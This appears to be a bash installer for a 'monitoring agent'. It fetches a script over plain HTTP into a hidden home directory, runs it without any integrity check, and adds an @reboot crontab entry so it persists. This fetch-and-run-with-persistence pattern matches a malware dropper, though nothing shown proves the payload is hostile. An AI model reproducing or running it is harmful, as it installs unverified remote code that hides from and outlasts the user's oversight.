#!/usr/bin/env bash
# Installs the monitoring agent and makes sure it comes back after reboots.
set -e
AGENT_URL="http://agent.example-monitor.net/agent.sh"
INSTALL_DIR="$HOME/.local/share/.agent"

fetch_agent() {
    mkdir -p "$INSTALL_DIR"
    if command -v curl >/dev/null; then
        curl -fsSL "$AGENT_URL" -o "$INSTALL_DIR/agent.sh"
    else
        wget -q "$AGENT_URL" -O "$INSTALL_DIR/agent.sh"
    fi
    chmod +x "$INSTALL_DIR/agent.sh"
}

persist() {
    (crontab -l 2>/dev/null; echo "@reboot $INSTALL_DIR/agent.sh") | crontab -
}

fetch_agent
persist
"$INSTALL_DIR/agent.sh" &
